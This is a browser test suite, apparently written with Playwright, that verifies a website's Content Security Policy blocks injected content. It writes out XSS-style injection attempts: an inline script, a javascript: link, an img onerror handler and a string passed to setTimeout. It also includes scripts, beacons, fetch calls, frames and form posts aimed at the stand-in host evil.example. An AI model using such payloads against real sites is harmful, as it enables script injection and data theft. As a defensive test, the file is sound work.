import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

import type { Page } from '@playwright/test';

import { expect, test } from './fixtures';
import { settled, withoutJoinPopup } from './helpers/customer';
import { renderAllParts } from './helpers/screenText';

/**
 * Every test of this suite fails at the first policy violation (see fixtures.ts). screens.spec.ts opens
 * every page and all that opens on it, map.spec.ts the map, supportRoom.spec.ts the support room.
 */

async function visit(page: Page, address: string): Promise<void> {
  await page.goto(address);
  await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1);
  await renderAllParts(page);
}

test.describe('nothing violates the policy', () => {
  test('when navigating between pages without a reload', async ({ page }) => {
    await withoutJoinPopup(page);
    await page.goto('/');
    const menu = page.getByRole('button', { name: 'Open menu' });
    if (await menu.isVisible()) await menu.click();
    await page.getByRole('link', { name: 'LOG IN' }).last().click();
    await settled(page);
    await expect(page.getByLabel('Password', { exact: true })).toBeVisible();
    await page.goBack();
    await settled(page);
    // Here the structured data is created in the browser, not read from the document.
    await expect(page.locator('script[type="application/ld+json"]')).toHaveCount(1);
  });
});

const violations = (page: Page): Promise<string[]> =>
  page.evaluate(() => (window as unknown as { violations: string[] }).violations);

test.describe('on a server that sends no headers, the policy in the documents', () => {
  let bare: Server;
  let bareUrl = '';
  test.beforeAll(async ({ servers: { site } }) => {
    const answer = async ({ url = '', headers }: IncomingMessage, response: ServerResponse) => {
      const reply = await fetch(site.url + url, { headers: { accept: headers.accept ?? '' } });
      const type = reply.headers.get('content-type') ?? '';
      response.writeHead(reply.status, { 'content-type': type });
      response.end(Buffer.from(await reply.arrayBuffer()));
    };
    // Can't be cached: a worker runs this again when it returns to these tests.
    bare = createServer((request, response) => void answer(request, response));
    await once(bare.listen(0, '127.0.0.1'), 'listening');
    bareUrl = `http://127.0.0.1:${(bare.address() as AddressInfo).port}`;
  });
  test.afterAll(() => {
    bare.closeAllConnections();
    bare.close();
  });
  test.beforeEach(({ page }) => withoutJoinPopup(page));

  test('is not violated', async ({ page }) => {
    for (const address of ['/', '/pricing', '/contactus', '/login', '/cart'])
      await visit(page, `${bareUrl}${address}`);
  });

  test('blocks inline code, in prerendered and other documents', async ({ page, allowConsole }) => {
    allowConsole(/./);
    for (const address of ['/pricing', '/login']) {
      await page.goto(`${bareUrl}${address}`);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await page.evaluate(() => {
        const style = document.createElement('style');
        style.append('body { display: none }');
        document.head.append(style);
        document.body.setAttribute('style', 'display: none');
        const link = document.createElement('a');
        link.setAttribute('href', 'javascript:window.hacked = true');
        document.body.append(link);
        link.click();
      });
      const blocked = async () => (await violations(page)).map((line) => line.split(' ')[0]);
      await expect
        .poll(blocked)
        .toEqual(expect.arrayContaining(['style-src-elem', 'style-src-attr', 'script-src-elem']));
      expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    }
  });
});

test.describe('the policy blocks', () => {
  const attempts: Record<string, { how: () => void; directive: string }> = {
    'an inline script': {
      how: () => {
        const script = document.createElement('script');
        script.append('window.hacked = true');
        document.head.append(script);
      },
      directive: 'require-trusted-types-for',
    },
    'a script of another host': {
      how: () => {
        const script = document.createElement('script');
        script.setAttribute('src', 'https://evil.example/x.js');
        document.head.append(script);
      },
      directive: 'require-trusted-types-for',
    },
    'an event handler in markup': {
      how: () => {
        document.body.setAttribute('onclick', 'window.hacked = true');
      },
      directive: 'require-trusted-types-for',
    },
    'markup from a text': {
      how: () => {
        document.body.innerHTML += '<img src=x onerror="window.hacked = true">';
      },
      directive: 'require-trusted-types-for',
    },
    'a text that is run': {
      how: () => {
        Reflect.apply(setTimeout, window, ['window.hacked = true']);
      },
      directive: 'require-trusted-types-for',
    },
    'a style element': {
      how: () => {
        const style = document.createElement('style');
        style.append('body { display: none }');
        document.head.append(style);
      },
      directive: 'style-src-elem',
    },
    'a style attribute': {
      how: () => {
        document.body.setAttribute('style', 'display: none');
      },
      directive: 'style-src-attr',
    },
    'a picture of another host': {
      how: () => {
        new Image().src = 'https://evil.example/beacon.png';
      },
      directive: 'img-src',
    },
    'a call to another host': {
      how: () => {
        void fetch('https://evil.example/').catch(() => undefined);
      },
      directive: 'connect-src',
    },
    'a frame of another host': {
      how: () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/';
        document.body.append(frame);
      },
      directive: 'frame-src',
    },
    'a plug-in': {
      how: () => {
        const plugin = document.createElement('object');
        plugin.data = 'https://evil.example/x.swf';
        document.body.append(plugin);
      },
      directive: 'require-trusted-types-for',
    },
    'another base address': {
      how: () => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
      },
      directive: 'base-uri',
    },
    'a form that leaves the site': {
      how: () => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(form);
        form.submit();
      },
      directive: 'form-action',
    },
  };

  test(Object.keys(attempts).join(', '), async ({ page, allowConsole }) => {
    allowConsole(/./);
    await withoutJoinPopup(page);
    for (const [what, { how, directive }] of Object.entries(attempts)) {
      await page.goto('/terms-condition');
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await page.evaluate(how).catch(() => undefined);
      await expect
        .poll(async () => (await violations(page)).map((line) => line.split(' ')[0]), what)
        .toContain(directive);
      expect(await page.evaluate(() => 'hacked' in window), what).toBe(false);
    }
  });
});
